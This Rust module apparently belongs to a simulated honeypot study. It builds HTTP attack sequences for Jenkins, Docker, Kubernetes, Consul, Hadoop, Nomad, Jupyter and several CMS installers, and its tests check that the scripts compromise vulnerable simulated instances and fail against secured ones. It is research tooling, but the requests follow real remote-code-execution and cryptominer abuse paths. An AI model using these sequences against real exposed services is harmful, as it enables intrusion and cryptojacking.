//! Attack scripts: the HTTP request sequence an attack performs against
//! each application's abuse surface.
//!
//! The honeypot study replays these scripts through the normal HTTP
//! stack, so compromises are real state transitions of the application
//! models, observed by the monitors exactly as Packetbeat/Auditbeat would
//! observe them.

use crate::payloads::{Payload, PayloadKind};
use nokeys_apps::AppId;
use nokeys_http::{Method, Request};

/// Build the request sequence for attacking `app` with `payload`.
///
/// Returns an empty script for applications whose abuse surface the
/// payload cannot use (e.g. a cryptominer makes no sense against a CMS
/// installer; the planner never produces such combinations, but the
/// function stays total).
pub fn attack_script(app: AppId, payload: &Payload) -> Vec<Request> {
    let cmd = payload.command.clone();
    match app {
        AppId::Jenkins => vec![Request::post("/script", cmd)],
        AppId::Gocd => vec![Request::post(
            "/go/api/admin/pipelines",
            format!("{{\"tasks\":[\"{}\"]}}", cmd.replace('"', "'")),
        )],
        AppId::WordPress => vec![
            Request::post("/wp-admin/install.php?step=2", "user_name=hacked&admin_password=pwned"),
            Request::post("/wp-admin/theme-editor.php", cmd),
        ],
        AppId::Grav => vec![
            Request::post("/admin", "username=hacked&password=pwned"),
            Request::post("/admin/config/system", cmd),
        ],
        AppId::Joomla => vec![
            Request::post("/installation/index.php", "admin_user=hacked"),
            Request::post("/administrator/index.php", cmd),
        ],
        AppId::Drupal => vec![
            Request::post("/core/install.php", "account_name=hacked"),
            Request::post("/admin/modules/install", cmd),
        ],
        AppId::Kubernetes => vec![Request::post(
            "/api/v1/namespaces/default/pods",
            format!(
                "{{\"metadata\":{{\"name\":\"mal-pod\"}},\"spec\":{{\"containers\":[{{\"image\":\"attacker/img\",\"command\":\"{}\"}}]}}}}",
                cmd.replace('"', "'")
            ),
        )],
        AppId::Docker => vec![
            Request::post(
                "/containers/create",
                format!(
                    "{{\"Image\":\"{}\",\"Cmd\":\"{}\"}}",
                    if payload.kind == PayloadKind::Kinsing { "kinsing/kinsing" } else { "alpine" },
                    cmd.replace('"', "'")
                ),
            ),
            // The container id is deterministic for a fresh daemon
            // snapshot; the study restores between compromises.
            Request::post("/containers/c00000001/start", ""),
        ],
        AppId::Consul => vec![Request {
            method: Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: format!(
                "{{\"Name\":\"health\",\"Script\":\"{}\",\"Interval\":\"10s\"}}",
                cmd.replace('"', "'")
            )
            .into_bytes(),
        }],
        AppId::Hadoop => vec![
            Request::get("/ws/v1/cluster/apps/new-application"),
            Request::post(
                "/ws/v1/cluster/apps",
                format!(
                    "{{\"application-id\":\"application_1\",\"am-container-spec\":{{\"commands\":{{\"command\":\"{}\"}}}}}}",
                    cmd.replace('"', "'")
                ),
            ),
        ],
        AppId::Nomad => vec![Request::post(
            "/v1/jobs",
            format!(
                "{{\"Job\":{{\"ID\":\"job\",\"TaskGroups\":[{{\"Tasks\":[{{\"Driver\":\"raw_exec\",\"Config\":{{\"command\":\"{}\"}}}}]}}]}}}}",
                cmd.replace('"', "'")
            ),
        )],
        AppId::JupyterLab | AppId::JupyterNotebook => vec![
            Request::post("/api/terminals", ""),
            Request::post("/api/terminals/1", cmd),
        ],
        AppId::Zeppelin => vec![
            Request::post("/api/notebook", "{\"name\":\"note\"}"),
            Request::post("/api/notebook/job/note-1", format!("%sh {cmd}")),
        ],
        AppId::Polynote => vec![Request::post("/notebooks/nb/run", cmd)],
        AppId::Ajenti => vec![Request::post("/api/terminal/exec", cmd)],
        AppId::PhpMyAdmin => vec![Request::post("/import.php", format!("sql_query={cmd}"))],
        AppId::Adminer => vec![Request::post("/adminer.php", format!("query={cmd}"))],
        // Out-of-scope applications have no abuse surface.
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::{build_instance, release_history, AppConfig};
    use std::net::Ipv4Addr;

    /// Replaying the script against a vulnerable instance must produce a
    /// compromise (this is the contract the honeypot study relies on).
    #[test]
    fn scripts_compromise_every_vulnerable_app() {
        let attacker = Ipv4Addr::new(203, 0, 113, 200);
        for app in AppId::in_scope() {
            let history = release_history(app);
            let old = matches!(
                app,
                AppId::Jenkins | AppId::JupyterNotebook | AppId::Joomla | AppId::Adminer
            );
            let version = if old {
                history[0]
            } else {
                *history.last().unwrap()
            };
            let cfg = AppConfig::vulnerable_for(app, &version);
            let mut inst = build_instance(app, version, cfg);
            let payload = Payload::downloader(7);
            let mut compromised = false;
            for req in attack_script(app, &payload) {
                let out = inst.handle(&req, attacker);
                if out.events.iter().any(|e| e.is_compromise()) {
                    compromised = true;
                }
            }
            assert!(compromised, "{app}: script failed to compromise");
        }
    }

    #[test]
    fn scripts_fail_against_secured_apps() {
        let attacker = Ipv4Addr::new(203, 0, 113, 200);
        for app in AppId::in_scope().filter(|a| *a != AppId::Polynote) {
            let history = release_history(app);
            let version = *history.last().unwrap();
            let cfg = AppConfig::secure_for(app, &version);
            let mut inst = build_instance(app, version, cfg);
            let payload = Payload::downloader(7);
            for req in attack_script(app, &payload) {
                let out = inst.handle(&req, attacker);
                assert!(
                    out.events.iter().all(|e| !e.is_compromise()),
                    "{app}: compromised despite being secure"
                );
            }
        }
    }

    #[test]
    fn out_of_scope_apps_have_empty_scripts() {
        assert!(attack_script(AppId::Gitlab, &Payload::downloader(1)).is_empty());
        assert!(attack_script(AppId::Ghost, &Payload::kinsing(1)).is_empty());
    }

    #[test]
    fn payload_command_reaches_the_wire() {
        let p = Payload::monero_miner(9);
        let script = attack_script(AppId::Hadoop, &p);
        assert_eq!(script.len(), 2);
        assert!(script[1].body_text().contains("pkill"));
    }
}
